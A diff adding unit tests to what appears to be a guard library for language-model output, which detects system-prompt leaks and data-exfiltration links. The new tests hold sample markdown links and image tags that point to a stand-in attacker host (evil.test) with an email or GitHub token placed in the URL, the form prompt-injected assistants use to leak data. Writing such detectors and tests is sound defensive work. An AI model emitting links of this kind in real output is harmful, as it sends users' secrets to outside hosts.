@@ -244,3 +244,15 @@ def test_repeated_markup_stays_linear() -> None:
         ctx = out_ctx()
         insert_canary(SYSTEM, ctx)
         assert SystemPromptLeakScanner().scan(text, ctx).score >= 0.0
+
+
+def test_redacted_placeholder_in_url_is_data() -> None:
+    assert exfil("[see](https://evil.test/?q=<EMAIL_1>)") == ["guard.output.exfil_link"]
+    assert exfil("<img src='https://evil.test/<SECRET:github_token>.png'>") == [
+        "guard.output.exfil_image"
+    ]
+
+
+def test_commonmark_pointy_destination() -> None:
+    links = find_exfil_links("![a](<https://evil.test/x.png>)")
+    assert [(link.host, link.url) for link in links] == [("evil.test", "https://evil.test/x.png")]
